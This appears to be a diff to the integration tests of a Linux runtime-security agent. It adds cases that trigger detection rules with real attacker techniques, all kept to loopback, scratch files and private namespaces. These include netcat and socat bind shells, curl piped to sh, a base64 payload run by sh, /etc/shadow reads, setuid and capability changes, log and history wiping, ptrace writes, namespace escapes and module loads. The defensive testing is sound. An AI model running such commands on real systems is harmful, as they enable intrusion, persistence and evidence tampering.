@@ -149,8 +149,15 @@ fn program_for(kind: &str) -> &'static str {
     match kind {
         "file_open" => "rasp_file_open",
         "library_load" => "rasp_library_load",
-        "connect" => "rasp_connect",
+        "connect" | "unix_connect" => "rasp_connect",
         "exec" => "rasp_exec",
+        "file_change" => "rasp_file_change",
+        "ptrace" => "rasp_ptrace",
+        "namespace" => "rasp_namespace",
+        "mount" => "rasp_mount",
+        "kernel_module" => "rasp_kernel_module",
+        "bpf_load" => "rasp_bpf",
+        "io_uring" => "rasp_io_uring",
         other => panic!("no program for {other}"),
     }
 }
@@ -301,6 +308,8 @@ enum Who {
     Command,
     /// A process the command starts (a server spawning a shell).
     ChildOf,
+    /// Any process below the command (a listener's shell, the reader of a pipeline).
+    Descendant,
 }
 
 #[derive(Clone, Debug)]
@@ -351,6 +360,10 @@ impl Case {
     }
     fn child(mut self) -> Case {
         self.who = Who::ChildOf;
+        self
+    }
+    fn descendant(mut self) -> Case {
+        self.who = Who::Descendant;
         self
     }
     fn exe(mut self, path: impl Into<String>) -> Case {
@@ -447,7 +460,36 @@ fn exec_cases(fx: &mut Fixtures) -> Vec<Case> {
     let fifo = fx.tmp.join("f");
     let s = Fixtures::s;
     let server_shell = "-c 'sh -c true; exit 0'";
+    let (bind_port, relay_port) = (free_loopback_port(), free_loopback_port());
     vec![
+        // A bind shell: the listener hands /bin/sh the connection it accepts, whose
+        // descriptors are then the socket (whatever the command lines say).
+        Case::new(
+            "shell-stdio-network-socket",
+            format!(
+                "sh -c 'nc -l -p {bind_port} -e /bin/sh & sleep 0.5; \
+                 echo exit | nc -q 1 127.0.0.1 {bind_port}; wait'"
+            ),
+        )
+        .descendant()
+        .exe("/bin/sh")
+        .needs("/usr/bin/nc", "netcat-traditional"),
+        Case::new(
+            "shell-stdio-from-network-relay",
+            format!(
+                "sh -c 'socat TCP-LISTEN:{relay_port},bind=127.0.0.1,reuseaddr EXEC:/bin/sh & \
+                 sleep 0.5; echo exit | socat - TCP:127.0.0.1:{relay_port}; wait'"
+            ),
+        )
+        .descendant()
+        .exe("/bin/sh")
+        .needs("/usr/bin/socat", "socat"),
+        // Padding pushes the rest of the command line past the 4 KiB captured.
+        Case::new(
+            "command-line-beyond-capture",
+            format!("bash -c '{}true'", " ".repeat(4200)),
+        )
+        .exe("/bin/bash"),
         Case::new("exec-from-tmp", s(&tmp_payload)).exe(s(&tmp_payload)),
         Case::new("exec-from-hidden-tmp-path", s(&hidden_payload))
             .exe(s(&hidden_payload))
@@ -589,7 +631,16 @@ fn file_cases(fx: &mut Fixtures) -> Vec<Case> {
     if !preload.exists() {
         fx.scratch.adopt(preload);
     }
+    let cron_link = PathBuf::from("/etc/cron.d").join(unique_name("rasp-test"));
+    fx.scratch.adopt(&cron_link);
     vec![
+        // A symlink is no open for writing: only the file-change hook sees it.
+        Case::new(
+            "persistence-file-replaced",
+            format!("ln -s /dev/null {}", s(&cron_link)),
+        )
+        .exe("/usr/bin/ln")
+        .path(s(&cron_link)),
         Case::new("read-shadow-file", "cat /etc/shadow")
             .exe("/bin/cat")
             .path("/etc/shadow"),
@@ -663,7 +714,7 @@ fn technique_cases(fx: &mut Fixtures) -> Vec<Case> {
     let sock = s(&fx.tmp.join("docker.sock"));
     let nopid = absent_pid();
     let socket_curl = format!("curl -s -m 1 --unix-socket {sock} http://localhost/version");
-    vec![
+    let mut cases = vec![
         Case::new(
             "download-piped-to-shell",
             "sh -c 'curl -s -m 1 http://127.0.0.1:9/i.sh | sh'",
@@ -816,6 +867,219 @@ fn technique_cases(fx: &mut Fixtures) -> Vec<Case> {
         Case::new("kernel-module-remove", "rmmod rasp_test_absent_module")
             .exe("/usr/bin/kmod")
             .needs("/usr/sbin/rmmod", "kmod"),
+    ];
+    cases.extend(hook_cases(fx, &home));
+    cases
+}
+
+/// The path of the `rasp-technique` helper this crate builds.
+fn technique_bin() -> String {
+    env!("CARGO_BIN_EXE_rasp-technique").to_string()
+}
+
+const PYTHON: &str = "/usr/bin/python3";
+
+/// The cases of the rules on the issue-19 hooks: each does the system call itself (from a
+/// Python one-liner, sed, ln, nsenter, mount, the rasp-technique helper), harmlessly:
+/// scratch files, modes and attributes on copies, memory written back unchanged, mounts
+/// in a private mount namespace, a loop device over a scratch image, refused connects.
+fn hook_cases(fx: &mut Fixtures, home: &Path) -> Vec<Case> {
+    let s = Fixtures::s;
+    let tech = technique_bin();
+    let copy = fx.scratch.copy("/bin/true", fx.var.join("mode-copy"));
+    let cap_copy = fx.scratch.copy("/bin/true", fx.var.join("cap-copy"));
+    let history = fx
+        .scratch
+        .file(fx.var.join("home/.bash_history"), b"ls\n", 0o600);
+    let xprofile = fx
+        .scratch
+        .file(home.join(".xprofile"), b"# rasp test\n", 0o644);
+    let log = fx.scratch.file(
+        PathBuf::from("/var/log").join(format!("{}.log", unique_name("rasp-test"))),
+        b"a line\n",
+        0o640,
+    );
+    let state_dir = fx.scratch.unique_dir("/var/lib/rasp");
+    let state = fx
+        .scratch
+        .file(state_dir.join("detections.jsonl"), b"{}\n", 0o600);
+    let sysbin = fx.scratch.copy(
+        "/bin/true",
+        PathBuf::from("/usr/local/bin").join(unique_name("rasp-test")),
+    );
+    let sock = s(&fx.tmp.join("docker.sock"));
+    let http_port = free_loopback_port();
+    let response = fx.scratch.file(
+        fx.var.join("response"),
+        b"HTTP/1.0 200 OK\r\nContent-Length: 7\r\n\r\nexit 0\n",
+        0o644,
+    );
+    // Pipelines typed in a script: the shell that reads the download has argv `sh`, and
+    // the script's own command line names no pipeline.
+    let fetch = fx.scratch.file(
+        fx.var.join("fetch.sh"),
+        format!(
+            "nc -l -p {http_port} < {} > /dev/null &\nsleep 0.5\n\
+             curl -s -m 5 http://127.0.0.1:{http_port}/i.sh | sh\nwait\n",
+            s(&response)
+        )
+        .as_bytes(),
+        0o644,
+    );
+    let decode = fx.scratch.file(
+        fx.var.join("decode.sh"),
+        b"echo ZXhpdCAw | base64 -d | sh\n",
+        0o644,
+    );
+    let mountpoint = fx.scratch.dir(fx.tmp.join("mnt"));
+    let image = fx.var.join("disk.img");
+    fx.scratch.adopt(&image);
+    let image_cmd = format!(
+        "sh -c 'truncate -s 4M {img} && mkfs.ext4 -q -F {img} && \
+         L=$(losetup -f --show {img}) && unshare -p -f -m mount -o ro $L {mnt}; \
+         losetup -d $L'",
+        img = s(&image),
+        mnt = s(&mountpoint)
+    );
+    let cgroup_name = unique_name("rasp-test");
+    vec![
+        Case::new("shell-reads-download", format!("sh {}", s(&fetch)))
+            .descendant()
+            .exe("/bin/sh")
+            .needs("/usr/bin/curl", "curl")
+            .needs("/usr/bin/nc", "netcat-traditional"),
+        Case::new("shell-reads-decoded-payload", format!("sh {}", s(&decode)))
+            .descendant()
+            .exe("/bin/sh"),
+        Case::new(
+            "setuid-bit-set-by-program",
+            format!(
+                "{PYTHON} -c 'import os; os.chmod(\"{}\", 0o4755)'",
+                s(&copy)
+            ),
+        )
+        .exe(PYTHON)
+        .path(s(&copy)),
+        // A version-2 file capability: effective, CAP_NET_RAW permitted.
+        Case::new(
+            "file-capability-set-by-program",
+            format!(
+                "{PYTHON} -c 'import os; os.setxattr(\"{}\", \"security.capability\", \
+                 bytes.fromhex(\"0100000200200000000000000000000000000000\"))'",
+                s(&cap_copy)
+            ),
+        )
+        .exe(PYTHON)
+        .path(s(&cap_copy)),
+        Case::new(
+            "shell-history-removed-or-replaced",
+            format!("{PYTHON} -c 'import os; os.unlink(\"{}\")'", s(&history)),
+        )
+        .exe(PYTHON)
+        .path(s(&history)),
+        Case::new(
+            "log-removed-or-truncated",
+            format!("{PYTHON} -c 'import os; os.truncate(\"{}\", 0)'", s(&log)),
+        )
+        .exe(PYTHON)
+        .path(s(&log)),
+        Case::new(
+            "audit-or-agent-state-removed",
+            format!("{PYTHON} -c 'import os; os.unlink(\"{}\")'", s(&state)),
+        )
+        .exe(PYTHON)
+        .path(s(&state)),
+        Case::new(
+            "timestamp-forged-on-system-file",
+            format!(
+                "{PYTHON} -c 'import os; os.utime(\"{}\", (978307200, 978307200))'",
+                s(&sysbin)
+            ),
+        )
+        .exe(PYTHON)
+        .path(s(&sysbin)),
+        // sed -i writes a temporary file beside the original and renames it over it.
+        Case::new(
+            "startup-file-replaced",
+            format!("sed -i '$a # rasp test' {}", s(&xprofile)),
+        )
+        .exe("/usr/bin/sed"),
+        // The victim is the command's own `sleep`, a sibling of the helper, not its child.
+        Case::new(
+            "process-attached-by-non-parent",
+            format!("sh -c 'sleep 5 & {tech} ptrace-poke $!; kill $!'"),
+        )
+        .child()
+        .exe(tech.clone()),
+        Case::new(
+            "process-memory-written-by-non-parent",
+            format!("sh -c 'sleep 5 & {tech} ptrace-poke $!; kill $!'"),
+        )
+        .child()
+        .exe(tech.clone()),
+        Case::new(
+            "process-memory-read-by-non-parent",
+            format!("sh -c 'sleep 5 & {tech} vm-read-write $!; kill $!'"),
+        )
+        .child()
+        .exe(tech.clone()),
+        // A new PID namespace (a container as far as the agent can tell) entering the mount
+        // namespace of a host process.
+        Case::new(
+            "setns-into-host-namespace",
+            "sh -c 'unshare -p -f nsenter --mount=/proc/$$/ns/mnt true'",
+        )
+        .descendant()
+        .exe("/usr/bin/nsenter")
+        .needs("/usr/bin/nsenter", "util-linux"),
+        Case::new(
+            "user-namespace-created-by-user",
+            "setpriv --reuid=65534 --regid=65534 --clear-groups unshare -r true",
+        )
+        .exe("/usr/bin/unshare")
+        .needs("/usr/bin/setpriv", "util-linux"),
+        Case::new("host-device-mounted-in-container", image_cmd)
+            .descendant()
+            .exe("/usr/bin/mount")
+            .needs("/usr/sbin/mkfs.ext4", "e2fsprogs")
+            .needs("/usr/sbin/losetup", "mount"),
+        Case::new(
+            "cgroup-mounted-in-container",
+            format!(
+                "unshare -p -f -m mount -t cgroup -o none,name={cgroup_name} cgroup {}",
+                s(&mountpoint)
+            ),
+        )
+        .descendant()
+        .exe("/usr/bin/mount"),
+        Case::new(
+            "container-runtime-socket-connected",
+            format!(
+                "{PYTHON} -c 'import socket; socket.socket(socket.AF_UNIX).connect_ex(\"{sock}\")'"
+            ),
+        )
+        .exe(PYTHON)
+        .path(sock.clone()),
+        Case::new(
+            "container-runtime-socket-connected-in-container",
+            format!(
+                "{PYTHON} -c 'import socket; socket.socket(socket.AF_UNIX).connect_ex(\"{sock}\")'"
+            ),
+        )
+        .in_container()
+        .exe(PYTHON)
+        .path(sock),
+        Case::new("bpf-program-loaded", format!("{tech} bpf-load")).exe(tech.clone()),
+        Case::new(
+            "io-uring-file-or-network-op",
+            format!("{tech} io-uring-open /etc/hostname"),
+        )
+        .exe(tech.clone()),
+        Case::new(
+            "io-uring-file-or-network-op",
+            format!("{tech} io-uring-connect 127.0.0.1:9"),
+        )
+        .exe(tech),
     ]
 }
 
@@ -898,6 +1162,8 @@ fn case_problems(
                 ));
             }
         }
+        // `caused_by` already found the command in the ancestry.
+        Who::Descendant => {}
         Who::ChildOf => {
             if d["ancestry"][0]["pid"] != json!(pid) {
                 problems.push(format!(
@@ -1085,7 +1351,10 @@ fn every_shipped_rule_has_a_scenario() {
         let rule = shipped_rule(case.rule);
         covered.insert(rule.id.clone());
     }
-    // `sql_query` rules need a database server: scenarios/sql.rs triggers them.
+    // `sql_query` rules need a database server: scenarios/sql.rs triggers them. Module
+    // loads need a kernel with module support:
+    // kernel_modules_loaded_by_a_program_are_seen_where_modules_can_load.
+    covered.insert("kernel-module-loaded-by-program".into());
     let uncovered: Vec<&str> = rules
         .iter()
         .filter(|r| !covered.contains(&r.id) && r.event != "sql_query")
@@ -1178,6 +1447,7 @@ fn credential_and_system_file_rules_fire_on_real_opens() {
     require_root();
     let agent = Agent::start(&[]);
     require_hook(&agent, "file_open");
+    require_hook(&agent, "file_change");
     let mut fx = Fixtures::new();
     let cases = file_cases(&mut fx);
     run_cases(&agent, &cases);
@@ -1201,18 +1471,16 @@ fn cloud_metadata_rules_fire_on_a_real_connect() {
     run_cases(&agent, &connect_cases());
 }
 
-/// Runs the technique cases of `policy`, requiring the file-open hook when any is a file case.
+/// Runs the technique cases of `policy`, requiring the hook of every event kind they need.
 fn run_technique_policy(policy: &str) {
     require_root();
     let agent = Agent::start(&[]);
     let mut fx = Fixtures::new();
     let cases = cases_of_policy(technique_cases(&mut fx), policy);
     assert!(!cases.is_empty(), "no cases for policy {policy}");
-    if cases
-        .iter()
-        .any(|c| shipped_rule(c.rule).event == "file_open")
-    {
-        require_hook(&agent, "file_open");
+    let kinds: BTreeSet<String> = cases.iter().map(|c| shipped_rule(c.rule).event).collect();
+    for kind in &kinds {
+        require_hook(&agent, kind);
     }
     run_cases(&agent, &cases);
 }
@@ -1250,6 +1518,69 @@ fn container_escape_rules_fire_on_real_escape_forms() {
 #[test]
 fn kernel_module_rules_fire_on_real_module_tools() {
     run_technique_policy("kernel-modules");
+}
+
+#[test]
+fn io_uring_rules_fire_on_real_submissions() {
+    run_technique_policy("io-uring");
+}
+
+/// A module file of the running kernel to load and unload again, if it has any.
+fn loadable_module() -> Option<PathBuf> {
+    let dir = PathBuf::from("/lib/modules")
+        .join(rasp_tests::kernel_release())
+        .join("kernel/drivers/net");
+    ["dummy.ko", "dummy.ko.xz", "dummy.ko.zst", "dummy.ko.gz"]
+        .iter()
+        .map(|n| dir.join(n))
+        .find(|p| p.exists())
+}
+
+/// `kernel-module-loaded-by-program`: a module loaded with finit_module(2) by a program of
+/// its own. Where the kernel has no module support (no /proc/modules: this project's CI
+/// kernel), nothing can be loaded and the hook has no tracepoint to attach to; the agent
+/// must then say so in `status` instead of reporting the hook as working.
+#[test]
+fn kernel_modules_loaded_by_a_program_are_seen_where_modules_can_load() {
+    require_root();
+    let agent = Agent::start(&[]);
+    if !Path::new("/proc/modules").exists() {
+        let status = agent.status();
+        let hooks: Vec<&Value> = status["programs"]
+            .as_array()
+            .map(|p| {
+                p.iter()
+                    .filter(|p| p["name"] == "rasp_kernel_module")
+                    .collect()
+            })
+            .unwrap_or_default();
+        assert!(!hooks.is_empty(), "rasp_kernel_module is not in status");
+        for h in &hooks {
+            assert_eq!(h["state"], "failed", "{h}");
+            let error = h["error"].as_str().unwrap_or("");
+            assert!(
+                error.contains("no such tracepoint") && error.contains("module"),
+                "the reason must name the missing tracepoint and module support: {h}"
+            );
+        }
+        eprintln!(
+            "note: kernel {} has no module support: the load case cannot run here; the \
+             agent reports why its module hook is not attached",
+            rasp_tests::kernel_release()
+        );
+        return;
+    }
+    require_hook(&agent, "kernel_module");
+    let module = loadable_module().unwrap_or_else(|| {
+        panic!("no dummy.ko of the running kernel under /lib/modules to load: install its modules package")
+    });
+    let case = Case::new(
+        "kernel-module-loaded-by-program",
+        format!("{} finit-module {}", technique_bin(), module.display()),
+    )
+    .exe(technique_bin());
+    run_cases(&agent, &[case]);
+    let _ = Command::new("rmmod").arg("dummy").status();
 }
 
 // ---------------------------------------------------------------------------------------
